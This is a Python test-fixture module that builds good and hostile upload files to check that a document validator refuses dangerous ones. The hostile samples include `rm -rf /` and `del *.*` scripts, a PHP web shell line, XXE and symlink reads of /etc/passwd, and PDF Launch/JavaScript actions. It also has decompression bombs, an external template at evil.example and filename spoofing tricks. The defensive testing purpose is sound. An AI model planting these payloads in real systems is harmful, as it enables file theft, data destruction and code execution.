"""Builders of real, small files: good ones, and ones that must be refused."""

import hashlib
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageDraw

from hall.support.filestore import rules
from hall.support.refusals import Refusal

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def make_picture(width: int = 900, height: int = 700, *, seed: str = "营业执照") -> Image.Image:
    """A picture with something on it, different for each seed."""
    image = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(image)
    digest = hashlib.sha256(seed.encode()).digest()
    for number, byte in enumerate(digest):
        x, y = (number * 97) % max(width - 40, 1), (byte * 37) % max(height - 40, 1)
        draw.rectangle((x, y, x + 30, y + 18), fill=(byte, 255 - byte, number * 7))
    return image


def make_jpg(width: int = 900, height: int = 700, *, seed: str = "营业执照", **options: object) -> bytes:
    target = io.BytesIO()
    make_picture(width, height, seed=seed).save(target, "JPEG", quality=80, **options)
    return target.getvalue()


def make_png(width: int = 900, height: int = 700, *, seed: str = "营业执照") -> bytes:
    target = io.BytesIO()
    make_picture(width, height, seed=seed).save(target, "PNG")
    return target.getvalue()


def new_pdf(pages: int = 1, *, text: str = "Application form", blank: tuple[int, ...] = ()) -> Pdf:
    """An open PDF with one line of text on each page, except on the blank ones (from 1)."""
    pdf = Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        if number not in blank:
            page.Resources = Dictionary(Font=Dictionary(F1=font))
            page.Contents = Stream(pdf, f"BT /F1 24 Tf 60 760 Td ({text} {number}) Tj ET".encode())
    return pdf


def pdf_bytes(pdf: Pdf, **options: object) -> bytes:
    target = io.BytesIO()
    pdf.save(target, **options)
    return target.getvalue()


def make_pdf(pages: int = 1, *, text: str = "Application form", blank: tuple[int, ...] = ()) -> bytes:
    return pdf_bytes(new_pdf(pages, text=text, blank=blank))


def make_scan(*, dpi: int, pages: int = 1) -> bytes:
    """A PDF of scanned A4 pages at the given resolution."""
    sheets = [make_picture(round(8.27 * dpi), round(11.69 * dpi), seed=f"第{page}页") for page in range(pages)]
    target = io.BytesIO()
    sheets[0].save(target, "PDF", resolution=dpi, save_all=True, append_images=sheets[1:])
    return target.getvalue()


_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{main}" ContentType="{type}"/></Types>'
)
_RELATIONS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{lines}</Relationships>'
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DOCUMENT = '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'


def make_zip(members: dict[str, bytes | str]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return target.getvalue()


def make_docx(more: dict[str, bytes | str] | None = None, *, content_type: str = _WORD) -> bytes:
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": _TYPES.format(main="word/document.xml", type=content_type),
        "_rels/.rels": _RELATIONS.format(lines='<Relationship Id="r1" Type="http://x/officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": _DOCUMENT,
    }
    return make_zip(members | (more or {}))


def make_xlsx(more: dict[str, bytes | str] | None = None) -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": _TYPES.format(main="xl/workbook.xml", type=kind),
        "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    }
    return make_zip(members | (more or {}))


def make_exe() -> bytes:
    return b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 400


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))


def make_huge_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """A few kilobytes that decode to billions of pixels."""
    header = struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * ((width // 8 + 1) * 64), 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b"")


def make_huge_jpg(side: int = 60_000) -> bytes:
    """A small JPG whose header says that it has billions of pixels."""
    content = bytearray(make_jpg(64, 64))
    frame = content.index(b"\xff\xc0") + 5
    content[frame : frame + 4] = struct.pack(">HH", side, side)
    return bytes(content)


def _with_action(**action: object) -> bytes:
    pdf = new_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(**action))
    return pdf_bytes(pdf)


def _pdf_with_attachment(name: str, content: bytes) -> bytes:
    pdf = new_pdf()
    pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, content, filename=name)
    return pdf_bytes(pdf)


def _pdf_with_button_script() -> bytes:
    pdf = new_pdf()
    action = Dictionary(S=Name("/JavaScript"), JS=String("app.alert(1)"))
    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)])
    return pdf_bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _pdf_with_root(name: str, value: object) -> bytes:
    pdf = new_pdf()
    pdf.Root[name] = value
    return pdf_bytes(pdf)


def _encrypted(user: str) -> bytes:
    return pdf_bytes(new_pdf(), encryption=pikepdf.Encryption(owner="owner", user=user, R=6))


def _pdf_with_bomb(size: int = 300 << 20) -> bytes:
    pdf = new_pdf()
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(size >> 20)) + packer.flush()
    stream = Stream(pdf, b"")
    stream.write(packed, filter=Name.FlateDecode)
    pdf.pages[0].Contents = pdf.make_indirect(stream)
    return pdf_bytes(pdf)


def _object_stream_bomb(size: int = 300 << 20, *, name: bytes = b"/ObjStm") -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(size >> 20)) + packer.flush()
    body = b"%PDF-1.7\n1 0 obj\n<</Type " + name + b"/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    return body + packed + b"\nendstream\nendobj\ntrailer<</Root 2 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"


def _pdf_with_big_picture() -> bytes:
    pdf = new_pdf()
    picture = Stream(pdf, b"\x00")
    picture.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 40_000, "/Height": 40_000, "/ColorSpace": Name.DeviceGray})
    pdf.pages[0].Resources.XObject = Dictionary(Im0=pdf.make_indirect(picture))
    return pdf_bytes(pdf)


def _zip_bomb() -> bytes:
    return make_docx({f"word/media/image{number}.bmp": b"\x00" * (30 << 20) for number in range(8)})


def _symlink_docx() -> bytes:
    target = io.BytesIO(make_docx())
    with zipfile.ZipFile(target, "a") as package:
        link = zipfile.ZipInfo("word/media/image1.png")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return target.getvalue()


def _locked_docx() -> bytes:
    content = bytearray(make_docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


@dataclass(frozen=True, slots=True)
class BadFile:
    label: str
    name: str
    content: bytes
    refusal: type[Refusal]


def bad_files() -> list[BadFile]:
    """The corpus: each one must be answered with its refusal, leaving nothing behind."""
    return [*_bad_names(), *_wrong_types(), *_bad_pictures(), *_bad_pdfs(), *_bad_packages()]


def _bad_names() -> list[BadFile]:
    pdf = make_pdf()
    return [
        BadFile("right-to-left override", "合同\u202efdp.exe", pdf, rules.DangerousFile),
        BadFile("isolate marks", "合同\u2066fdp\u2069.pdf", pdf, rules.DangerousFile),
        BadFile("NUL in the name", "合同.pdf\x00.jpg", pdf, rules.DangerousFile),
        BadFile("line break in the name", "a\r\nSet-Cookie: x=1.pdf", pdf, rules.DangerousFile),
        BadFile("no extension", "合同", pdf, rules.WrongFileType),
        BadFile("double extension", "合同.pdf.exe", pdf, rules.WrongFileType),
        BadFile("path and wrong extension", "../../etc/passwd", pdf, rules.WrongFileType),
        BadFile("only dots", "....", pdf, rules.WrongFileType),
    ]


def _wrong_types() -> list[BadFile]:
    html = "<!DOCTYPE html><html><script>alert(1)</script></html>"
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    return [
        BadFile("empty", "空.pdf", b"", rules.FileEmpty),
        BadFile("too large", "大.pdf", make_pdf() + b" " * (2 << 20), rules.FileTooLarge),
        BadFile("program", "setup.exe", make_exe(), rules.DangerousFile),
        BadFile("program called PDF", "合同.pdf", make_exe(), rules.DangerousFile),
        BadFile("Linux program called JPG", "照片.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 64, rules.DangerousFile),
        BadFile("Java class called PNG", "照片.png", b"\xca\xfe\xba\xbe\x00\x00\x00\x34", rules.DangerousFile),
        BadFile("Windows shortcut", "合同.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 70, rules.DangerousFile),
        BadFile("shell script", "合同.pdf", b"#!/bin/sh\nrm -rf /\n", rules.DangerousFile),
        BadFile("batch file", "合同.pdf", b"@echo off\r\ndel *.*\r\n", rules.DangerousFile),
        BadFile("PHP", "照片.jpg", b"<?php system($_GET['c']); ?>", rules.DangerousFile),
        BadFile("HTML called JPG", "照片.jpg", html.encode(), rules.WrongFileType),
        BadFile("HTML in UTF-16 called PDF", "合同.pdf", html.encode("utf-16"), rules.WrongFileType),
        BadFile("SVG", "图.svg", svg.encode(), rules.WrongFileType),
        BadFile("SVG called PNG", "图.png", b'<?xml version="1.0"?>' + svg.encode(), rules.WrongFileType),
        BadFile(
            "XML", "a.pdf", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', rules.WrongFileType
        ),
        BadFile("plain text", "合同.pdf", "合同内容".encode(), rules.WrongFileType),
        BadFile("noise", "合同.pdf", b"\x00\x9f\x92\x96" * 300, rules.WrongFileType),
        BadFile("plain ZIP", "材料.zip", make_zip({"a.pdf": make_pdf()}), rules.WrongFileType),
        BadFile("ZIP called PDF", "材料.pdf", make_zip({"a.txt": "a"}), rules.WrongFileType),
        BadFile("RAR called PDF", "材料.pdf", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40, rules.WrongFileType),
        BadFile("7z", "材料.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40, rules.WrongFileType),
        BadFile("old Word", "合同.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, rules.WrongFileType),
        BadFile("RTF called DOCX", "合同.docx", b"{\\rtf1 {\\object\\objdata 00}}", rules.WrongFileType),
        BadFile("GIF", "图.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", rules.WrongFileType),
        BadFile("HEIC called JPG", "IMG_0001.jpg", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", rules.WrongFileType),
        BadFile("OFD called PDF", "票.pdf", make_zip({"OFD.xml": "<ofd/>"}), rules.WrongFileType),
        BadFile("Word called PDF", "合同.pdf", make_docx(), rules.WrongFileType),
        BadFile("PDF called JPG", "照片.jpg", make_pdf(), rules.WrongFileType),
        BadFile("JPG called PDF", "扫描.pdf", make_jpg(), rules.WrongFileType),
        BadFile("PNG called JPG", "照片.jpg", make_png(), rules.WrongFileType),
    ]


def _bad_pictures() -> list[BadFile]:
    jpg, png = make_jpg(), make_png()
    return [
        BadFile("cut JPG", "照片.jpg", jpg[: len(jpg) // 2], rules.UnreadableFile),
        BadFile("JPG of three bytes", "照片.jpg", b"\xff\xd8\xff", rules.UnreadableFile),
        BadFile("cut PNG", "照片.png", png[: len(png) // 2], rules.UnreadableFile),
        BadFile("PNG with a wrong checksum", "照片.png", png[:40] + b"\xff\xff\xff\xff" + png[44:], rules.UnreadableFile),
        BadFile("PNG of billions of pixels", "照片.png", make_huge_png(), rules.UnreadableFile),
        BadFile("JPG of billions of pixels", "照片.jpg", make_huge_jpg(), rules.UnreadableFile),
        BadFile("PNG of 50 million pixels", "照片.png", make_huge_png(8_000, 6_250), rules.UnreadableFile),
        BadFile("JPG with a script in its comment", "照片.jpg", make_jpg(comment=b"<script>alert(1)</script>"), rules.DangerousFile),
        BadFile("JPG and ZIP at once", "照片.jpg", jpg + make_zip({"a.js": "alert(1)"}), rules.DangerousFile),
        BadFile("PNG and HTML at once", "照片.png", png + b"<HTML><body>", rules.DangerousFile),
        BadFile("PNG and PDF at once", "照片.png", png + make_pdf(), rules.DangerousFile),
        BadFile("JPG and program at once", "照片.jpg", jpg + make_exe(), rules.DangerousFile),
    ]


def _bad_pdfs() -> list[BadFile]:
    pdf = make_pdf(3)
    script = String("app.alert('x')")
    return [
        BadFile("PDF of a header only", "合同.pdf", b"%PDF-1.7\n", rules.UnreadableFile),
        BadFile("cut PDF", "合同.pdf", pdf[: len(pdf) * 2 // 3], rules.UnreadableFile),
        BadFile("PDF of rubbish", "合同.pdf", b"%PDF-1.7\n" + b"rubbish\n" * 99 + b"%%EOF", rules.UnreadableFile),
        BadFile("PDF without pages", "合同.pdf", pdf_bytes(Pdf.new()), rules.UnreadableFile),
        BadFile("PDF of 3,000 pages", "合同.pdf", pdf_bytes(new_pdf(3_000)), rules.UnreadableFile),
        BadFile("PDF with a password", "合同.pdf", _encrypted("geheim"), rules.UnreadableFile),
        BadFile("PDF with restrictions", "合同.pdf", _encrypted(""), rules.UnreadableFile),
        BadFile("PDF with JavaScript at opening", "合同.pdf", _with_action(S=Name.JavaScript, JS=script), rules.DangerousFile),
        BadFile("PDF with JavaScript on a button", "合同.pdf", _pdf_with_button_script(), rules.DangerousFile),
        BadFile("PDF that starts a program", "合同.pdf", _with_action(S=Name.Launch, F=String("cmd.exe")), rules.DangerousFile),
        BadFile("PDF that reads data", "合同.pdf", _with_action(S=Name.ImportData, F=String("a.fdf")), rules.DangerousFile),
        BadFile(
            "PDF with an XFA form", "表.pdf", _pdf_with_root("/AcroForm", Dictionary(XFA=Array([]), Fields=Array([]))), rules.DangerousFile
        ),
        BadFile("PDF with a program inside", "合同.pdf", _pdf_with_attachment("run.exe", make_exe()), rules.DangerousFile),
        BadFile("PDF with a disguised program inside", "合同.pdf", _pdf_with_attachment("说明.txt", make_exe()), rules.DangerousFile),
        BadFile("PDF after other bytes", "合同.pdf", b"\x00\x01junk\n" + pdf, rules.DangerousFile),
        BadFile("PDF and ZIP at once", "合同.pdf", pdf + make_zip({"a.exe": make_exe()}), rules.DangerousFile),
        BadFile("PDF and HTML at once", "合同.pdf", pdf + b"<script>alert(1)</script>", rules.DangerousFile),
        BadFile("GIF and PDF at once", "合同.pdf", b"GIF89a" + pdf, rules.WrongFileType),
        BadFile("PDF bomb in the contents", "合同.pdf", _pdf_with_bomb(), rules.DangerousFile),
        BadFile("PDF bomb in an object stream", "合同.pdf", _object_stream_bomb(), rules.DangerousFile),
        BadFile("PDF bomb in an object stream, spelled oddly", "合同.pdf", _object_stream_bomb(name=b"/Obj#53tm"), rules.DangerousFile),
        BadFile("PDF with a picture of billions of pixels", "合同.pdf", _pdf_with_big_picture(), rules.UnreadableFile),
    ]


def _bad_packages() -> list[BadFile]:
    outside = '<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    entity = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    docx = make_docx()
    return [
        BadFile("ZIP bomb", "合同.docx", _zip_bomb(), rules.DangerousFile),
        BadFile("too many members", "合同.docx", make_docx({f"word/{number}.xml": "<a/>" for number in range(2100)}), rules.DangerousFile),
        BadFile("macro", "合同.docx", make_docx({"word/vbaProject.bin": b"macro"}), rules.DangerousFile),
        BadFile(
            "macro type", "合同.docx", make_docx(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"), rules.DangerousFile
        ),
        BadFile("Excel 4 macro", "表.xlsx", make_xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), rules.DangerousFile),
        BadFile("object inside", "合同.docx", make_docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), rules.DangerousFile),
        BadFile("program inside", "合同.docx", make_docx({"word/media/run.exe": make_exe()}), rules.DangerousFile),
        BadFile("disguised program inside", "合同.docx", make_docx({"word/media/image1.png": make_exe()}), rules.DangerousFile),
        BadFile(
            "outside template",
            "合同.docx",
            make_docx({"word/_rels/settings.xml.rels": _RELATIONS.format(lines=outside)}),
            rules.DangerousFile,
        ),
        BadFile("entity", "合同.docx", make_docx({"word/settings.xml": entity}), rules.DangerousFile),
        BadFile("path out of the package", "合同.docx", make_docx({"../../evil.xml": "<a/>"}), rules.DangerousFile),
        BadFile("link in the package", "合同.docx", _symlink_docx(), rules.DangerousFile),
        BadFile("password", "合同.docx", _locked_docx(), rules.UnreadableFile),
        BadFile("broken markup", "合同.docx", make_docx({"word/styles.xml": "<a><b></a>"}), rules.UnreadableFile),
        BadFile("cut package", "合同.docx", docx[: len(docx) - 60], rules.UnreadableFile),
        BadFile("page after the package", "合同.docx", docx + b"<html>", rules.DangerousFile),
        BadFile("Excel called Word", "合同.docx", make_xlsx(), rules.WrongFileType),
        BadFile("PowerPoint", "讲.pptx", make_zip({"[Content_Types].xml": "<a/>", "ppt/presentation.xml": "<a/>"}), rules.WrongFileType),
    ]
